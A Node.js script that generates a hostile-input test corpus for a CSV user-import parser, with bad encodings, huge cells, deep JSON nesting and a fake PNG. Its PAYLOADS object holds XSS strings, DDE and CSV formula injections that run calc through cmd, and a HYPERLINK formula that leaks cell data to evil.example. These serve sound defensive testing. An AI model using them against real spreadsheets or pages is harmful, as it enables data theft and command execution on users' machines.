#!/usr/bin/env node
// The hostile-input corpus: every case as bytes, from one place. The small cases are committed
// beside this script (`node make.js` rewrites them); the large ones (a 10 MB cell, a line of
// 1,000,000 columns, JSON nested 100,000 deep, a cell listing 80,000 emails) are built at test
// time by tests/hostile.rs and tests/js/hostile.test.js, never committed.
import { writeFileSync } from 'node:fs';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

export const HEADER = 'id,first_name,last_name,username,primary_email_address,primary_phone_number,verified_email_addresses,unverified_email_addresses,verified_phone_numbers,unverified_phone_numbers,totp_secret,password_digest,password_hasher,created_at';
const row = (id, first = '', last = '', username = '') => `${id},${first},${last},${username},${id}@example.test,,,,,,,,,2024-03-01T12:00:00Z`;
const csvCell = (s) => `"${s.replaceAll('"', '""')}"`;

/** Payloads that must come through as data, verbatim, in userMetadata. */
export const PAYLOADS = {
  html: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(document.cookie)</script>',
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  cmd: "+cmd|' /C calc'!A0",
  sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  dde: '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
};

/** The small cases, by file name. */
export function smallCases() {
  const p = PAYLOADS;
  const u16 = (s, be) => {
    const le = Buffer.from('\uFEFF' + s, 'utf16le');
    return be ? le.swap16() : le;
  };
  const csv = `${HEADER}\n${row('user_h1', csvCell(p.html), csvCell(p.script), csvCell(p.hyperlink))}\n${row('user_h2', csvCell(p.cmd), csvCell(p.sum), csvCell(p.minus))}\n${row('user_h3', csvCell(p.dde), 'plain', '')}\n`;
  return {
    'html-and-formulas.csv': Buffer.from(csv),
    'invalid-utf8-and-nul.csv': Buffer.concat([
      Buffer.from(`${HEADER}\nuser_u1,Bad`), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(',Name,,u1@example.test,,,,,,,,,\n'),
      Buffer.from('user_u2,Nul\0Byte,\0,,u2@example.test,,,,,,,,,\n'),
      Buffer.from(`${row('user_u3', 'Fine')}\n`),
    ]),
    'utf16le-bom.csv': u16(`${HEADER}\n${row('user_w1', 'Le')}\n`, false),
    'utf16be-bom.csv': u16(`${HEADER}\n${row('user_w2', 'Be')}\n`, true),
    'image.png': Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\n,,\0\xff\n', 'latin1')]),
  };
}

/** The large cases, built in memory. */
export function largeCases() {
  return {
    'ten-mb-cell.csv': Buffer.concat([Buffer.from(`${HEADER}\nuser_big,"`), Buffer.alloc(10 * 1024 * 1024, 'a'), Buffer.from(`",x,,big@example.test,,,,,,,,,\n${row('user_after', 'After')}\n`)]),
    'million-columns.csv': Buffer.concat([Buffer.from(`${HEADER}\nuser_wide`), Buffer.alloc(1_000_000, ','), Buffer.from(`\n${row('user_after', 'After')}\n`)]),
    'nested-100000.json': Buffer.from('['.repeat(100_000) + ']'.repeat(100_000)),
    'eighty-thousand-emails.csv': Buffer.from(`${HEADER}\nuser_many,,,,,,"${Array.from({ length: 80_000 }, (_, i) => `${i}@x.io`).join(',')}",,,,,,,\n${row('user_after', 'After')}\n`),
  };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const here = dirname(fileURLToPath(import.meta.url));
  for (const [name, bytes] of Object.entries(smallCases())) writeFileSync(join(here, name), bytes);
}
